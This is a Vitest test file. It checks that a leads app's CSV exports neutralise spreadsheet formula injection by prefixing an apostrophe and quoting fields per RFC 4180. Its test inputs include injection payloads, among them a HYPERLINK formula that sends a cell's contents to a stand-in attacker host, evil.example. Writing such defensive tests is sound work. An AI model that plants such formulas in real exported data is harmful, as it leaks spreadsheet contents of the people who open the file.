import { describe, expect, it } from 'vitest';
import { auth, createAgent, registerUser, type TestApp, useSharedTestApp } from '../helpers/app.js';
import { toCsv } from '../../src/modules/leads/csv.js';
import { parseCsv } from '../helpers/csv.js';

/**
 * CSV exports (issue 22.6, issue 31 abuse 1): every cell starting with `=`, `+`, `-`, `@`, a tab
 * or a CR (OWASP "CSV Injection") gets a leading apostrophe, phone numbers such as
 * `+1-555-0100` included (a spreadsheet computes those: -654); fields are quoted per RFC 4180.
 */

type Json = Record<string, any>;

let t: TestApp;
let token: string;

useSharedTestApp({ env: { EMBEDDINGS: 'none' } }, async (app) => {
  t = app;
  token = (await registerUser(t.app)).token;
});

async function csv(url: string): Promise<{ text: string; rows: string[][] }> {
  const res = await t.app.inject({ method: 'GET', url, headers: auth(token) });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  expect(res.body.startsWith('\uFEFF')).toBe(true);
  const text = res.body.slice(1);
  return { text, rows: parseCsv(text) };
}

describe('GET /api/chatbot-leads/{id}/export.csv', () => {
  it('escapes every cell a spreadsheet would read as a formula, phone numbers too; quotes per RFC 4180', async () => {
    const agent = await createAgent(t.app, token);
    // [name, phone]
    const leads = (
      [
        ['Anna de Vries', '+31 20 123 4567'],
        ['Bob', '+1-555-0100'],
        ['Chris', '+44 (0)20 7946 0958'],
        ['Dana', '020 123 4567'],
        ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '0612345678'],
        ['@SUM(1)', '+31 6 1234 5678'],
        ['-2+3', '-2+3'],
        ['Doe, "JJ" Jr', '+1 555 CALL NOW'],
      ] as const
    ).map(([name, phone]) => ({ name, phone }));
    const made: Json[] = [];
    for (const lead of leads) {
      const res = await t.app.inject({ method: 'POST', url: `/api/public/lead/${agent.id}`, payload: lead });
      expect(res.statusCode, res.body).toBe(200);
      made.push(res.json());
    }
    const { text, rows } = await csv(`/api/chatbot-leads/${agent.id}/export.csv`);
    expect(rows[0]).toEqual(['id', 'name', 'phone', 'session_id', 'created_at']);
    const cells = new Map(rows.slice(1).map((r) => [r[0], r]));
    const row = (i: number) => cells.get(made[i]!.id)!;

    // phone numbers starting with + are arithmetic to a spreadsheet: escaped like any formula
    expect(row(0).slice(1, 3)).toEqual(['Anna de Vries', "'+31 20 123 4567"]);
    expect(row(1)[2]).toBe("'+1-555-0100");
    expect(row(2)[2]).toBe("'+44 (0)20 7946 0958");
    expect(row(3)[2]).toBe('020 123 4567');
    expect(row(5)[2]).toBe("'+31 6 1234 5678");
    expect(text).toContain(",'+31 20 123 4567,");
    // formulas get the apostrophe (and a field with quotes or commas is quoted, quotes doubled)
    expect(row(4)[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",0612345678,`);
    expect(row(5)[1]).toBe("'@SUM(1)");
    expect(row(6).slice(1, 3)).toEqual(["'-2+3", "'-2+3"]);
    // starts with + but is not a phone number (letters): escaped
    expect(row(7)[2]).toBe("'+1 555 CALL NOW");
    // a comma and quotes: quoted, quotes doubled, nothing added
    expect(row(7)[1]).toBe('Doe, "JJ" Jr');
    expect(text).toContain(`,"Doe, ""JJ"" Jr",`);
  });
});

describe('GET /api/leads/export.csv', () => {
  it('the same rule for the account leads', async () => {
    const add = async (name: string, contact: string, notes?: string) => {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/leads',
        headers: auth(token),
        payload: { name, contact, ...(notes ? { notes } : {}) },
      });
      expect(res.statusCode, res.body).toBe(200);
      return res.json();
    };
    const phone = await add('Erik', '+31 20 123 4567', 'line one\r\nline two, "quoted"');
    const formula = await add('=1+1', '@evil', '+SUM(A1:A9)');
    const { rows } = await csv('/api/leads/export.csv');
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
    expect(byId.get(phone.id)!.slice(1, 5)).toEqual([
      'Erik',
      "'+31 20 123 4567",
      'New',
      'line one\r\nline two, "quoted"',
    ]);
    expect(byId.get(formula.id)!.slice(1, 5)).toEqual(["'=1+1", "'@evil", 'New', "'+SUM(A1:A9)"]);
  });
});

describe('toCsv', () => {
  const line = (cell: string) =>
    toCsv(['h'], [[cell]])
      .slice(1)
      .split('\r\n')[1];

  it.each([
    ['555-0100', '555-0100'],
    ['0612345678', '0612345678'],
    ['plain', 'plain'],
    ['', ''],
  ])('%j is exported as it is', (value, expected) => {
    expect(line(value)).toBe(expected);
  });

  it.each([
    ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
    ['=1+1', "'=1+1"],
    ['+1-555-0100', "'+1-555-0100"], // a spreadsheet computes it: -654
    ['+31 20 123 4567', "'+31 20 123 4567"],
    ['+11-1', "'+11-1"],
    ['-1', "'-1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['-2+3', "'-2+3"],
    ['+1', "'+1"], // too short to be a phone number
    ['+1+1', "'+1+1"], // a second plus: arithmetic, not a number
    ['+31 20 A1', "'+31 20 A1"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['+', "'+"],
  ])('%j is escaped', (value, expected) => {
    expect(line(value)).toBe(expected);
  });

  it('quotes a field with a comma, a quote, a line break or white space at its ends', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['Doe, "JJ" Jr', 'x\ny'],
          [' pad ', null],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n"Doe, ""JJ"" Jr","x\ny"\r\n" pad ",\r\n');
  });
});
